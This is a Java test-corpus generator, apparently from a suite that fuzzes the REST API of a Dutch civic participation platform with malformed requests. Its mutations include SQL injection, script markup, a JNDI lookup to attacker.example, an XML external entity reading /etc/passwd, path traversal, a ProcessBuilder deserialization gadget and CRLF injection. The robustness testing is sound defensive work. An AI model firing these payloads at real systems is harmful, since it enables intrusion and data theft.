package nl.sed.samen.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Consumer;

/**
 * The deterministic corpus: every public and official endpoint of the contract × mutations of its body, fields, path,
 * query and headers. Nothing is random, so a failing request can be replayed from its description.
 */
final class HostileCorpus {

    /** Put into injected values: an error response must never contain it (the rejected value is never echoed). */
    static final String CANARY = "zq9canary";

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HOLE = "@@HOLE@@";

    /** The ids and credentials the corpus stands on, all real. */
    record Setting(int port, String tenant, String otherTenant, String admin, String publishedProject,
            String draftProject, String openConsultation, String draftConsultation, String openPoll,
            String openPollOption, String draftPoll, String codePoll, String reaction, String receipt,
            String withdrawnReaction, String withdrawReceipt, String closedConsultation, String voterToken,
            String otherTenantVoterToken,
            Map<String, String> tokenVariants, Map<String, String> voterTokenVariants, String tenantSettingsBody,
            String unsubscribeToken, String webhook) {
    }

    /** One operation of the contract: its path template ({t} tenant, {id} resource), base body and auth. */
    record Endpoint(String name, String method, String template, String id, String body, boolean official,
            boolean list, Map<String, String> headers) {

        String path(String tenant, String idValue) {
            return template.replace("{t}", tenant).replace("{id}", idValue == null ? "" : idValue);
        }
    }

    /**
     * Mutations of the HTTP framing itself (request line, header syntax, lengths, Host) are answered by the HTTP layer
     * before any endpoint is chosen, so they are sent to these endpoints only: one of each kind of caller and method.
     */
    private static final List<String> REPRESENTATIVE = List.of("tenants.list", "projects.create", "votes.cast",
            "polls.update", "reactions.withdraw");

    private static final List<String> CORE_TEXTS = List.of("NUL inside", "C0 controls", "C1 control",
            "lone high surrogate", "empty", "blank", "10k characters", "200k characters", "5001 characters");

    private final Setting s;
    private final List<Endpoint> endpoints = new ArrayList<>();
    private final List<HostileRequest> corpus = new ArrayList<>();

    HostileCorpus(Setting setting) {
        this.s = setting;
        String t = "/api/v1/tenants/{t}";
        String manifest = """
                {"title":"Hostile consultation","question":"Wat vindt u?","description":"Toelichting",
                 "participationLevel":"consult","openForInput":"De inrichting","fixed":"Het budget",
                 "decisionMaker":"De gemeenteraad","opensAt":"2030-01-01T09:00:00+01:00",
                 "closesAt":"2030-06-01T17:00:00+02:00","feedbackDueDate":"2030-09-01","moderationMode":"post",
                 "audience":"everyone"%s}""";
        String poll = """
                {"question":"Welke boom?","options":[{"label":"Linde"},{"label":"Eik"}],"maxChoices":1,
                 "resultsVisibility":"after-vote","votingMode":"open","opensAt":"2030-01-01T09:00:00+01:00",
                 "closesAt":"2030-06-01T17:00:00+02:00"%s}""";
        String project = """
                {"title":"Hostile project","summary":"Samenvatting","body":"Uitleg","theme":"wonen",
                 "areas":["Enkhuizen"],"contact":"Team wonen"%s}""";
        add("tenants.list", "GET", "/api/v1/tenants", null, null, false, false);
        add("tenants.get", "GET", t, null, null, false, false);
        add("tenants.settings", "PATCH", t, null, s.tenantSettingsBody(), true, false);
        add("projects.list", "GET", t + "/projects", null, null, false, true);
        add("projects.create", "POST", t + "/projects", null, project.formatted(""), true, false);
        add("projects.get", "GET", t + "/projects/{id}", s.publishedProject(), null, false, false);
        add("projects.update", "PATCH", t + "/projects/{id}", s.draftProject(),
                project.formatted(",\"status\":\"draft\""), true, false);
        add("consultations.list", "GET", t + "/projects/{id}/consultations", s.publishedProject(), null, false, true);
        add("consultations.create", "POST", t + "/projects/{id}/consultations", s.publishedProject(),
                manifest.formatted(""), true, false);
        add("consultations.get", "GET", t + "/consultations/{id}", s.openConsultation(), null, false, false);
        add("consultations.update", "PATCH", t + "/consultations/{id}", s.draftConsultation(),
                manifest.formatted(",\"status\":\"draft\""), true, false);
        add("polls.list", "GET", t + "/consultations/{id}/polls", s.openConsultation(), null, false, true);
        add("polls.create", "POST", t + "/consultations/{id}/polls", s.openConsultation(), poll.formatted(""), true,
                false);
        addWith("polls.get", "GET", t + "/polls/{id}", s.openPoll(), null, false, false,
                Map.of("Voter-Token", s.voterToken()));
        add("polls.update", "PATCH", t + "/polls/{id}", s.draftPoll(), poll.formatted(",\"status\":\"draft\""), true,
                false);
        addWith("votes.cast", "POST", t + "/polls/{id}/votes", s.openPoll(),
                "{\"optionIds\":[\"" + s.openPollOption() + "\"],\"ageBand\":\"25-44\",\"area\":\"Enkhuizen\"}",
                false, false, Map.of("Voter-Token", s.voterToken()));
        add("voting-codes.generate", "POST", t + "/polls/{id}/voting-codes", s.codePoll(), "{\"count\":2}", true,
                false);
        add("polls.breakdown", "GET", t + "/polls/{id}/breakdown", s.openPoll(), null, true, false);
        add("voter-tokens.issue", "POST", t + "/voter-tokens", null, null, false, false);
        add("reactions.list", "GET", t + "/consultations/{id}/reactions", s.openConsultation(), null, false, true);
        add("reactions.submit", "POST", t + "/consultations/{id}/reactions", s.openConsultation(),
                "{\"body\":\"Meer bomen graag.\",\"displayName\":\"Anna\",\"ageBand\":\"25-44\",\"area\":\"Enkhuizen\","
                        + "\"email\":\"anna@example.nl\"}", false, false);
        addWith("reactions.own", "GET", t + "/reactions/{id}", s.reaction(), null, false, false,
                Map.of("Receipt-Token", s.receipt()));
        addWith("reactions.withdraw", "DELETE", t + "/reactions/{id}", s.withdrawnReaction(), null, false, false,
                Map.of("Receipt-Token", s.withdrawReceipt()));
        add("flags.create", "POST", t + "/reactions/{id}/flags", s.reaction(),
                "{\"reason\":\"spam\",\"comment\":\"Reclame\"}", false, false);
        add("replies.put", "PUT", t + "/reactions/{id}/reply", s.reaction(), "{\"body\":\"Dank u wel.\"}", true, false);
        add("replies.delete", "DELETE", t + "/reactions/{id}/reply", s.reaction(), null, true, false);
        add("moderation.decide", "POST", t + "/reactions/{id}/moderation", s.reaction(),
                "{\"decision\":\"hide\",\"reason\":\"Buiten de spelregels\"}", true, false);
        add("moderation.queue", "GET", t + "/moderation/reactions", null, null, true, true);
        add("audit.list", "GET", t + "/audit-events", null, null, true, true);
        add("feedback.publish", "PUT", t + "/consultations/{id}/feedback", s.closedConsultation(),
                "{\"summary\":\"Veel reacties over groen.\",\"decision\":\"Het plein krijgt bomen.\","
                        + "\"decidedBy\":\"De gemeenteraad\",\"changes\":\"Twee extra bomen.\"}", true, false);
        add("report.get", "GET", t + "/consultations/{id}/report", s.closedConsultation(), null, true, false);
        add("impact.get", "GET", t + "/impact", null, null, true, false);
        add("proof-of-work.challenge", "GET", t + "/proof-of-work", null, null, false, false);
        add("embed.poll", "GET", t + "/polls/{id}/embed", s.openPoll(), null, true, false);
        add("embed.consultation", "GET", t + "/consultations/{id}/embed", s.openConsultation(), null, true, false);
        add("unsubscribe.one-click", "POST", t + "/unsubscribe/{id}", s.unsubscribeToken(),
                null, false, false);
        String webhook = "{\"url\":\"http://localhost:9/hostile\",\"eventTypes\":[\"poll.closed\"],\"active\":false}";
        add("webhooks.list", "GET", t + "/webhooks", null, null, true, true);
        add("webhooks.create", "POST", t + "/webhooks", null, webhook, true, false);
        add("webhooks.get", "GET", t + "/webhooks/{id}", s.webhook(), null, true, false);
        add("webhooks.update", "PATCH", t + "/webhooks/{id}", s.webhook(),
                "{\"description\":\"Vijandig\",\"active\":false,\"eventTypes\":[\"poll.opened\"]}", true, false);
        add("webhooks.attempts", "GET", t + "/webhooks/{id}/attempts", s.webhook(), null, true, true);
        add("webhooks.rotate", "POST", t + "/webhooks/{id}/secret-rotations", s.webhook(), "{\"overlapMinutes\":0}",
                true, false);
        add("openapi.json", "GET", "/api/v1/openapi.json", null, null, false, false);
    }

    List<Endpoint> endpoints() {
        return endpoints;
    }

    /** Builds every request: controls first (they create the state later requests meet), then the mutations. */
    List<HostileRequest> build() {
        endpoints.forEach(e -> corpus.add(base(e)));
        for (Endpoint e : endpoints) {
            wholeBodies(e);
            if (e.body() != null) {
                fieldMutations(e);
                unknownAndDuplicateFields(e);
                contentTypes(e);
            }
            paths(e);
            if (e.list() || e.name().equals("impact.get")) {
                queries(e);
            }
            authorizations(e);
            headers(e);
            methods(e);
        }
        special();
        return corpus;
    }

    // ---- the request as a well-behaved client would send it -------------------------------------------------------------

    HostileRequest base(Endpoint e) {
        return request(e, e.path(s.tenant(), e.id()));
    }

    private HostileRequest request(Endpoint e, String target) {
        HostileRequest r = new HostileRequest(e.name(), e.method(), target);
        r.header("Host", "localhost:" + s.port()).header("Accept", "*/*").header("Connection", "close");
        if (e.official()) {
            r.header("Authorization", "Bearer " + s.admin());
        }
        e.headers().forEach(r::header);
        if (e.body() != null) {
            r.header("Content-Type", "application/json").body(e.body());
        }
        return r;
    }

    private void add(String name, String method, String template, String id, String body, boolean official,
            boolean list) {
        addWith(name, method, template, id, body, official, list, Map.of());
    }

    private void addWith(String name, String method, String template, String id, String body, boolean official,
            boolean list, Map<String, String> headers) {
        endpoints.add(new Endpoint(name, method, template, id, body, official, list, headers));
    }

    private void mutate(Endpoint e, String mutation, Consumer<HostileRequest> change) {
        HostileRequest r = base(e).copy(mutation);
        change.accept(r);
        corpus.add(r);
    }

    // ---- whole bodies: broken JSON, other JSON types, nesting, encodings, sizes -----------------------------------------

    private void wholeBodies(Endpoint e) {
        boolean takesBody = e.body() != null;
        boolean writes = !e.method().equals("GET");
        if (!takesBody && !writes) {
            // a GET with a body is still answered sanely
            mutate(e, "GET with broken JSON body", r -> r.header("Content-Type", "application/json").body("{\"a\":"));
            return;
        }
        String base = takesBody ? e.body() : "{}";
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("empty body", new byte[0]);
        bodies.put("lone {", utf8("{"));
        bodies.put("lone }", utf8("}"));
        bodies.put("truncated JSON", utf8(base.substring(0, base.length() / 2)));
        bodies.put("truncated in a string", utf8(base.substring(0, Math.max(1, base.indexOf(':') + 3))));
        bodies.put("trailing garbage", utf8(base + "garbage"));
        bodies.put("two documents", utf8(base + base));
        bodies.put("JSON array", utf8("[]"));
        bodies.put("array of the object", utf8("[" + base + "]"));
        bodies.put("JSON string", utf8("\"" + CANARY + "\""));
        bodies.put("JSON number", utf8("42"));
        bodies.put("JSON huge number", utf8("99999999999999999999999"));
        bodies.put("JSON 1e400", utf8("1e400"));
        bodies.put("JSON true", utf8("true"));
        bodies.put("JSON null", utf8("null"));
        bodies.put("NaN", utf8("NaN"));
        bodies.put("missing value", utf8("{\"a\":}"));
        bodies.put("single quotes", utf8(base.replace('"', '\'')));
        bodies.put("unquoted keys", utf8(base.replaceAll("\"([A-Za-z]+)\":", "$1:")));
        bodies.put("comment", utf8("/* c */" + base));
        bodies.put("trailing comma", utf8(base.substring(0, base.lastIndexOf('}')) + ",}"));
        bodies.put("200-deep arrays", utf8("[".repeat(200) + "]".repeat(200)));
        bodies.put("200-deep objects", utf8(nestedObjects(200)));
        bodies.put("2000-deep arrays", utf8("[".repeat(2000) + "]".repeat(2000)));
        bodies.put("2000-deep objects", utf8(nestedObjects(2000)));
        bodies.put("100000 unclosed [", utf8("[".repeat(100_000)));
        bodies.put("UTF-8 BOM", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(base)));
        bodies.put("UTF-16LE body", base.getBytes(StandardCharsets.UTF_16LE));
        bodies.put("UTF-32 BOM garbage", new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF, 0, 0, 0, '{'});
        bodies.put("invalid UTF-8 only", new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xFD, (byte) 0xC0});
        bodies.put("raw NUL bytes", concat(utf8(base.substring(0, base.length() / 2)), new byte[] {0, 0, 0},
                utf8(base.substring(base.length() / 2))));
        bodies.put("binary noise", noise(4096));
        bodies.put("5000-digit number", utf8("1".repeat(5000)));
        bodies.put("100k-character key", utf8("{\"" + "k".repeat(100_000) + "\":1}"));
        bodies.put("20000 keys", utf8(manyKeys(20_000)));
        bodies.put("200000-element array", utf8("[" + "1,".repeat(199_999) + "1]"));
        bodies.put("XML", utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
        bodies.put("form encoded", utf8("title=" + CANARY + "&body=x"));
        for (Map.Entry<String, byte[]> body : bodies.entrySet()) {
            mutate(e, "body: " + body.getKey(), r -> r.header("Content-Type", "application/json")
                    .body(body.getValue()).echoChecked());
        }
        mutate(e, "body over 256 KiB", r -> r.header("Content-Type", "application/json")
                .body(utf8("{\"title\":\"" + "x".repeat(300_000) + "\"}")));
        mutate(e, "chunked body over 256 KiB (sent in 8 KiB chunks)", r -> {
            r.header("Content-Type", "application/json").body(utf8("{\"title\":\"" + "x".repeat(300_000) + "\"}"));
            r.chunked = true;
        });
        mutate(e, "chunked body", r -> {
            r.header("Content-Type", "application/json").body(utf8(base));
            r.chunked = true;
        });
        mutate(e, "chunked broken JSON", r -> {
            r.header("Content-Type", "application/json").body(utf8("{\"a\":[1,"));
            r.chunked = true;
        });
    }

    // ---- every field: wrong types, huge numbers, control characters, invalid UTF-8, overlong text -------------------------

    private void fieldMutations(Endpoint e) {
        JsonNode root = parse(e.body());
        List<List<Object>> nodes = new ArrayList<>();
        collect(root, new ArrayList<>(), nodes);
        JsonNodeFactory f = JsonNodeFactory.instance;
        Map<String, JsonNode> wrongTypes = new LinkedHashMap<>();
        wrongTypes.put("number", f.numberNode(12345));
        wrongTypes.put("negative", f.numberNode(-1));
        wrongTypes.put("float", f.numberNode(1.5));
        wrongTypes.put("boolean", f.booleanNode(true));
        wrongTypes.put("null", f.nullNode());
        wrongTypes.put("empty array", f.arrayNode());
        wrongTypes.put("empty object", f.objectNode());
        wrongTypes.put("string", f.textNode(CANARY));
        wrongTypes.put("operator object", f.objectNode().put("$ne", CANARY));
        List<String> rawLiterals = List.of("1e400", "-1e400", "99999999999999999999999", "-99999999999999999999999",
                "1e-400", "2147483648", "-2147483649", "9223372036854775808", "-0", "1" + "0".repeat(1200));
        List<String> garbageLiterals = List.of("NaN", "Infinity", "-", "01", "0x10", "1_000", "truex", "nul",
                "undefined", "'" + CANARY + "'", "\"unterminated", "\"bad \\x41 escape\"", "\"\\u00\"",
                "\"raw\u0001control\"", "\"raw\ttab\"");
        // every text value for the first three text fields of a body; the core ones for every other text field
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("NUL", "\u0000");
        texts.put("NUL inside", CANARY + "\u0000x");
        texts.put("C0 controls", "\u0001\u0002\u0003" + CANARY);
        texts.put("ANSI escape", "\u001b[2J\u001b[31m" + CANARY);
        texts.put("BEL", "\u0007" + CANARY);
        texts.put("DEL", "\u007f" + CANARY);
        texts.put("C1 control", "\u0085\u009b" + CANARY);
        texts.put("lone high surrogate", "\ud800" + CANARY);
        texts.put("lone low surrogate", CANARY + "\udc00");
        texts.put("reversed surrogates", "\udc00\ud800" + CANARY);
        texts.put("bidi override", "\u202e" + CANARY);
        texts.put("zero width only", "\u200b\u200b");
        texts.put("BOM and noncharacter", "\ufeff\uffff" + CANARY);
        texts.put("empty", "");
        texts.put("blank", "   ");
        texts.put("line breaks only", "\r\n\t");
        texts.put("10k characters", "a".repeat(10_000) + CANARY);
        texts.put("200k characters", "a".repeat(200_000) + CANARY);
        texts.put("60k two-byte characters", "é".repeat(60_000));
        texts.put("40k emoji", "\ud83d\ude00".repeat(40_000));
        texts.put("5001 characters", "b".repeat(5001));
        texts.put("SQL", "' OR '1'='1'; DROP TABLE reaction; --" + CANARY);
        texts.put("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>");
        texts.put("JNDI lookup", "${jndi:ldap://attacker.example/a}${env:PATH}#{7*7}");
        texts.put("format string", "%s%n%x%p{0}");
        texts.put("path traversal", "../../../../etc/passwd");
        texts.put("backslashes", "\\\\\\");
        Map<String, byte[]> rawBytes = new LinkedHashMap<>();
        rawBytes.put("invalid UTF-8 C3 28", new byte[] {(byte) 0xC3, 0x28});
        rawBytes.put("overlong UTF-8 C0 AF", new byte[] {(byte) 0xC0, (byte) 0xAF});
        rawBytes.put("UTF-8 encoded surrogate", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
        rawBytes.put("5-byte UTF-8", new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});
        rawBytes.put("lone FF byte", new byte[] {(byte) 0xFF});
        rawBytes.put("truncated UTF-8", new byte[] {(byte) 0xE2, (byte) 0x82});
        rawBytes.put("above U+10FFFF", new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80});
        rawBytes.put("raw NUL in string", new byte[] {'a', 0, 'b'});

        int textual = 0;
        for (int n = 0; n < nodes.size(); n++) {
            List<Object> path = nodes.get(n);
            String where = pointer(path);
            JsonNode current = at(root, path);
            for (Map.Entry<String, JsonNode> wrong : wrongTypes.entrySet()) {
                if (wrong.getKey().equals("string") && current.isTextual()
                        || wrong.getKey().equals("number") && current.isNumber()) {
                    continue;
                }
                String body = withNode(root, path, wrong.getValue());
                mutate(e, where + " as " + wrong.getKey(), r -> r.body(body).echoChecked());
            }
            // every number literal for numbers and the first fields; the worst three for the rest
            for (String literal : current.isNumber() || n < 2 ? rawLiterals : rawLiterals.subList(0, 3)) {
                String body = withLiteral(root, path, literal);
                mutate(e, where + " = " + HostileRequest.abbreviate(literal, 30), r -> r.body(body));
            }
            if (n < 2) {
                for (String literal : garbageLiterals) {
                    String body = withLiteral(root, path, literal);
                    mutate(e, where + " = " + HostileRequest.abbreviate(literal, 30), r -> r.body(body).echoChecked());
                }
                String nestedArrays = withLiteral(root, path, "[".repeat(200) + "]".repeat(200));
                mutate(e, where + " as 200-deep arrays", r -> r.body(nestedArrays));
                String nestedObjects = withLiteral(root, path, nestedObjects(200));
                mutate(e, where + " as 200-deep objects", r -> r.body(nestedObjects));
            }
            if (current.isTextual()) {
                boolean all = textual < 3;
                for (Map.Entry<String, String> text : texts.entrySet()) {
                    if (!all && !CORE_TEXTS.contains(text.getKey())) {
                        continue;
                    }
                    String body = withNode(root, path, TextNode.valueOf(text.getValue()));
                    mutate(e, where + " " + text.getKey(), r -> r.body(body).echoChecked());
                }
                if (textual++ < 2) {
                    for (Map.Entry<String, byte[]> raw : rawBytes.entrySet()) {
                        byte[] body = withRawBytes(root, path, raw.getValue());
                        mutate(e, where + " " + raw.getKey(), r -> r.body(body).echoChecked());
                    }
                }
            }
            if (current.isArray()) {
                ArrayNode many = f.arrayNode();
                for (int i = 0; i < 10_000; i++) {
                    many.add(current.size() > 0 ? current.get(0) : TextNode.valueOf("x"));
                }
                String body = withNode(root, path, many);
                mutate(e, where + " with 10000 elements", r -> r.body(body));
                String nulls = withNode(root, path, f.arrayNode().addNull().addNull());
                mutate(e, where + " with null elements", r -> r.body(nulls));
            }
        }
    }

    private void unknownAndDuplicateFields(Endpoint e) {
        String base = e.body();
        String open = base.substring(0, base.indexOf('{') + 1);
        String rest = base.substring(base.indexOf('{') + 1);
        Map<String, String> extra = new LinkedHashMap<>();
        extra.put("unknown field", "\"unknownField\":\"" + CANARY + "\",");
        extra.put("__proto__", "\"__proto__\":{\"admin\":true},");
        extra.put("constructor.prototype", "\"constructor\":{\"prototype\":{\"admin\":true}},");
        extra.put("Jackson @class gadget", "\"@class\":\"java.lang.ProcessBuilder\",");
        extra.put("id field", "\"id\":\"00000000-0000-0000-0000-000000000000\",");
        extra.put("tenant field", "\"tenant\":\"drechterland\",");
        extra.put("createdAt field", "\"createdAt\":\"2000-01-01T00:00:00Z\",");
        extra.put("empty key", "\"\":1,");
        extra.put("NUL key", "\"\\u0000\":1,");
        extra.put("case-changed key", "\"" + firstKey(base).toUpperCase(Locale.ROOT) + "\":\"x\",");
        extra.put("10k-character key", "\"" + "k".repeat(10_000) + "\":1,");
        extra.put("duplicate first key", "\"" + firstKey(base) + "\":\"" + CANARY + "\",");
        extra.put("duplicate key null", "\"" + firstKey(base) + "\":null,");
        for (Map.Entry<String, String> x : extra.entrySet()) {
            mutate(e, "field: " + x.getKey(), r -> r.body(open + x.getValue() + rest).echoChecked());
        }
        mutate(e, "field: duplicate key at the end", r -> r.body(base.substring(0, base.lastIndexOf('}'))
                + ",\"" + firstKey(base) + "\":\"" + CANARY + "\"}").echoChecked());
        mutate(e, "field: 1000 unknown keys", r -> r.body(open + manyKeys(1000).substring(1, manyKeys(1000).length() - 1)
                + "," + rest));
        mutate(e, "field: empty object", r -> r.body("{}"));
    }

    private void contentTypes(Endpoint e) {
        Map<String, String> types = new LinkedHashMap<>();
        types.put("text/plain", "text/plain");
        types.put("application/xml", "application/xml");
        types.put("garbage", "!!!" + CANARY);
        types.put("empty", "");
        types.put("charset utf-16", "application/json; charset=utf-16");
        types.put("unknown charset", "application/json; charset=" + CANARY);
        types.put("charset quote", "application/json; charset=\"");
        types.put("charset empty", "application/json; charset=");
        types.put("semicolons", "application/json;;;");
        types.put("list", "application/json, text/plain");
        types.put("merge-patch", "application/merge-patch+json");
        types.put("problem+json", "application/problem+json");
        types.put("multipart", "multipart/form-data; boundary=zz");
        types.put("form", "application/x-www-form-urlencoded");
        types.put("wildcard", "*/*");
        types.put("application/*", "application/*");
        types.put("5000 characters", "application/json; x=" + "y".repeat(5000));
        types.put("raw 0xFF byte", "application/json\u00ff");
        types.put("parameters galore", "application/json; a=1; b=2; c=\"3\"; charset=utf-8; q=0.1");
        types.put("upper case", "APPLICATION/JSON; CHARSET=UTF-8");
        for (Map.Entry<String, String> type : types.entrySet()) {
            mutate(e, "Content-Type " + type.getKey(), r -> r.header("Content-Type", type.getValue()).echoChecked());
        }
        mutate(e, "no Content-Type", r -> r.header("Content-Type", null));
        mutate(e, "two Content-Types", r -> r.addHeader("Content-Type", "text/plain"));
        mutate(e, "latin-1 body declared latin-1", r -> r.header("Content-Type", "application/json; charset=ISO-8859-1")
                .body(e.body().replaceFirst(":\"", ":\"\u00e9\u00ff").getBytes(StandardCharsets.ISO_8859_1)));
        mutate(e, "UTF-16 body declared UTF-16", r -> r.header("Content-Type", "application/json; charset=UTF-16")
                .body(e.body().getBytes(StandardCharsets.UTF_16)));
    }

    // ---- paths ------------------------------------------------------------------------------------------------------------

    private void paths(Endpoint e) {
        if (e.template().contains("{id}")) {
            Map<String, String> ids = new LinkedHashMap<>();
            ids.put("../", "..");
            ids.put("../..", "../..");
            ids.put("%2e%2e", "%2e%2e");
            ids.put("%2e%2e%2f%2e%2e", "%2e%2e%2f%2e%2e");
            ids.put("..%2f..%2fq%2fhealth", "..%2f..%2fq%2fhealth");
            ids.put("%00", "%00");
            ids.put("id%00", e.id() + "%00");
            ids.put("%zz", "%zz");
            ids.put("lone %", "%");
            ids.put("overlong dots", "%c0%ae%c0%ae");
            ids.put("emoji", "%F0%9F%92%A9");
            ids.put("raw unicode", "\u00efd-\u00fc-\u4e2d");
            ids.put("%FF", "%FF");
            ids.put("4000 characters", "a".repeat(4000));
            ids.put("upper-case UUID", e.id().toUpperCase(Locale.ROOT));
            ids.put("braced UUID", "%7B" + e.id() + "%7D");
            ids.put("nil UUID", "00000000-0000-0000-0000-000000000000");
            ids.put("max UUID", "ffffffff-ffff-ffff-ffff-ffffffffffff");
            ids.put("other resource's id", e.id().equals(s.reaction()) ? s.openPoll() : s.reaction());
            ids.put("matrix parameter", e.id() + ";x=1");
            ids.put("encoded slash", e.id() + "%2f");
            ids.put("no dashes", e.id().replace("-", ""));
            ids.put("leading space", "%20" + e.id());
            ids.put("CRLF injection", e.id() + "%0d%0aX-Injected:%201");
            ids.put("-1", "-1");
            ids.put("huge number", "99999999999999999999999");
            ids.put("null", "null");
            ids.put("SQL", "1%27%20OR%20%271%27=%271");
            ids.put("36 characters not hex", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz");
            ids.put("UUID with plus signs", "+" + e.id().substring(1));
            for (Map.Entry<String, String> id : ids.entrySet()) {
                mutate(e, "id " + id.getKey(), r -> r.target = e.path(s.tenant(), id.getValue()));
            }
            if (REPRESENTATIVE.contains(e.name()) || e.name().equals("projects.get")) {
                mutate(e, "id of 100k characters", r -> r.target = e.path(s.tenant(), "a".repeat(100_000)));
            }
            mutate(e, "id raw invalid UTF-8", r -> r.rawTarget = concat(utf8(e.path(s.tenant(), "")),
                    new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}));
        }
        if (e.template().contains("{t}")) {
            Map<String, String> tenants = new LinkedHashMap<>();
            tenants.put("upper case", s.tenant().toUpperCase(Locale.ROOT));
            tenants.put("%00 suffix", s.tenant() + "%00");
            tenants.put("%00", "%00");
            tenants.put("..", "..");
            tenants.put("%2e%2e", "%2e%2e");
            tenants.put("encoded space", "enkh%20uizen");
            tenants.put("raw unicode", "\u00ebnkhuizen");
            tenants.put("encoded unicode", "%C3%ABnkhuizen");
            tenants.put("3000 characters", "t".repeat(3000));
            tenants.put("matrix parameter", s.tenant() + ";x=1");
            tenants.put("asterisk", "*");
            tenants.put("encoded asterisk", "%2A");
            tenants.put("other tenant", s.otherTenant());
            tenants.put("encoded slash", s.tenant() + "%2f..");
            tenants.put("double encoded dots", "%252e%252e");
            tenants.put("SQL", "x%27%20OR%20%271%27=%271");
            tenants.put("control character", "%01%1b");
            for (Map.Entry<String, String> tenant : tenants.entrySet()) {
                mutate(e, "tenant " + tenant.getKey(), r -> r.target = e.path(tenant.getValue(), e.id()));
            }
        }
        String path = e.path(s.tenant(), e.id());
        mutate(e, "trailing slash", r -> r.target = path + "/");
        mutate(e, "double slashes", r -> r.target = path.replace("/", "//"));
        mutate(e, "dot segments", r -> r.target = path.replace("/api/v1/", "/api/v1/./x/../"));
        mutate(e, "dot-dot back into the API", r -> r.target = path.replace("/api/v1/", "/api/v1/../v1/"));
        mutate(e, "encoded dot segments", r -> r.target = path.replace("/api/v1/", "/api/v1/%2e/"));
        mutate(e, "encoded backslashes", r -> r.target = path.replace("/api/v1/", "/api/v1/%5c"));
        mutate(e, "unknown sub-resource", r -> r.target = path + "/" + CANARY);
        mutate(e, "empty query", r -> r.target = path + "?");
        mutate(e, "NUL in query", r -> r.target = path + "?a=%00");
        if (!REPRESENTATIVE.contains(e.name())) {
            return;
        }
        mutate(e, "backslashes for slashes", r -> r.target = path.replace("/", "%5c"));
        mutate(e, "raw backslashes", r -> r.target = path.replace("/api/v1/", "/api/v1\\"));
        mutate(e, "upper-case prefix", r -> r.target = path.replace("/api/v1/", "/API/V1/"));
        mutate(e, "unknown version", r -> r.target = path.replace("/api/v1/", "/api/v2/"));
        mutate(e, "fragment in target", r -> r.target = path + "#frag");
        mutate(e, "lone % at end", r -> r.target = path + "%");
        mutate(e, "bad escape in query", r -> r.target = path + "?a=%zz&b=%");
    }

    // ---- query parameters -------------------------------------------------------------------------------------------------

    private void queries(Endpoint e) {
        String path = e.path(s.tenant(), e.id());
        String uuid = "0b9a0f4e-7c1a-4d5e-9a8b-1c2d3e4f5a6b";
        Map<String, String> q = new LinkedHashMap<>();
        if (e.name().equals("impact.get")) {
            for (String value : List.of("not-a-uuid", "%00", "x".repeat(3000), "", "00000000-0000-0000-0000-000000000000",
                    "%7B00000000-0000-0000-0000-000000000000%7D", s.openPoll(), CANARY)) {
                q.put("projectId=" + HostileRequest.abbreviate(value, 30), "projectId=" + value);
            }
            q.put("projectId twice", "projectId=" + s.publishedProject() + "&projectId=x");
            for (String year : List.of("abc", "%00", "99999999999", "-2026", "2026.0", "%D9%A3", "1999", CANARY)) {
                q.put("year=" + HostileRequest.abbreviate(year, 30), "year=" + year);
            }
            q.put("unknown parameter", "foo=" + CANARY);
            for (Map.Entry<String, String> query : q.entrySet()) {
                mutate(e, "query " + query.getKey(), r -> r.echoChecked().target = path + "?" + query.getValue());
            }
            return;
        }
        for (String limit : List.of("-1", "0", "101", "1e9", "1000000000", "1e400", "99999999999999999999", "abc",
                "", "%20", "5.5", "0x10", "%00", "+5", "-0", "%D9%A3", CANARY, "2147483648", "1%2C2")) {
            q.put("limit=" + limit, "limit=" + limit);
        }
        q.put("limit twice", "limit=5&limit=500");
        q.put("limit without value", "limit");
        for (String cursor : List.of("!!!", "%00", "x", "AAAA", "====", "%2B%2F",
                b64("x_y"), b64("1_not-a-uuid"), b64("_"), b64(""),
                b64("99999999999999999_" + uuid), b64("-99999999999999999_" + uuid),
                b64("9223372036854775807_" + uuid), b64("-9223372036854775808_" + uuid),
                b64("-62135596800000001_" + uuid), b64("253402300800000000_" + uuid),
                b64("0_" + uuid), b64("1_" + uuid + "_extra"), b64("1_" + uuid.toUpperCase(Locale.ROOT)),
                b64("\u0000_" + uuid), "c".repeat(3000), CANARY)) {
            q.put("cursor=" + HostileRequest.abbreviate(cursor, 40), "cursor=" + cursor);
        }
        q.put("cursor twice", "cursor=" + b64("0_" + uuid) + "&cursor=garbage");
        q.put("unknown parameter", "foo=" + CANARY);
        q.put("only separators", "&&&=&=");
        q.put("raw unicode", "limit=\u00e9&cursor=\u4e2d");
        q.put("300 parameters", "a=1&".repeat(300));
        if (e.name().equals("moderation.queue")) {
            for (String status : List.of("xyz", "", "PENDING", "%00", "pending%00", "published", "pending,flagged",
                    CANARY)) {
                q.put("status=" + status, "status=" + status);
            }
            q.put("status twice", "status=pending&status=flagged");
            for (String text : List.of("%00", "x%00y", "%26%7C!():*", "'", "%5C", "a%20%26%20b%20%7C%20!c%20%3C-%3E%20d",
                    "a".repeat(201), "a".repeat(200), "%F0%9F%92%A9", "::*", "!!", "%22unbalanced", "-", "or",
                    "%3Cscript%3E", "%01%02", "%25", "_", "%C3%28", "a%20".repeat(100), CANARY)) {
